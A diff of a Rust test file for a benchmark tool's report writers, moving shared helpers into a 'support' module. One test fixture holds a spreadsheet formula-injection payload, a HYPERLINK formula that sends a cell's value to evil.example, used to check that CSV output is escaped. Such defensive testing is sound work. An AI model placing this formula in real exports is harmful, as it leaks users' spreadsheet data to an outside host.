@@ -1,13 +1,13 @@
 //! Snapshot tests of the Markdown, CSV and JSON writers on fixed synthetic samples, and the
 //! HTML writer's escaping of hostile trace text.
 
-mod report_common;
+mod support;
 
 use ctxbench::report::{csv, html, json, markdown, ReportModel};
 
 fn model() -> (ctxbench::record::RunInfo, ReportModel) {
-    let info = report_common::info("run-fixed");
-    let model = ReportModel::build(&info, report_common::samples());
+    let info = support::report::info("run-fixed");
+    let model = ReportModel::build(&info, support::report::samples());
     (info, model)
 }
 
@@ -78,8 +78,8 @@ fn csv_is_rectangular_with_flat_columns() {
 
 #[test]
 fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
-    let info = report_common::info("run-hostile");
-    let mut samples = report_common::samples();
+    let info = support::report::info("run-hostile");
+    let mut samples = support::report::samples();
     let link = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
     for s in &mut samples {
         s.trace_id = link.to_string();
@@ -120,9 +120,9 @@ fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
 
 #[test]
 fn html_escapes_hostile_trace_text_and_has_no_script_but_its_own_or_external_reference() {
-    let info = report_common::info("run-fixed");
-    let mut samples = report_common::samples();
-    report_common::add_summaries(&mut samples);
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
     let model = ReportModel::build(&info, samples);
     let page = html::render(&info, &model);
     // One script element: the page's own, allowed by its hash in the CSP.
@@ -187,9 +187,9 @@ fn outline(page: &str) -> String {
 
 #[test]
 fn html_structure_snapshot() {
-    let info = report_common::info("run-fixed");
-    let mut samples = report_common::samples();
-    report_common::add_summaries(&mut samples);
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
     let model = ReportModel::build(&info, samples);
     let page = html::render(&info, &model);
     insta::assert_snapshot!("report_html_outline", outline(&page));
@@ -236,9 +236,9 @@ fn terminal_verdict_snapshot() {
 
 #[test]
 fn suite_choice_of_headline_metrics_is_followed() {
-    let mut info = report_common::info("run-fixed");
+    let mut info = support::report::info("run-fixed");
     info.suite = serde_json::json!({"report": {"metrics": ["tokens", "nope"]}});
-    let model = ReportModel::build(&info, report_common::samples());
+    let model = ReportModel::build(&info, support::report::samples());
     assert_eq!(model.headline, ["tokens"]);
     assert!(model.notes.iter().any(|n| n.contains("nope")));
     // report.html shows the notes' code spans as code, as report.md does, not as backticks.
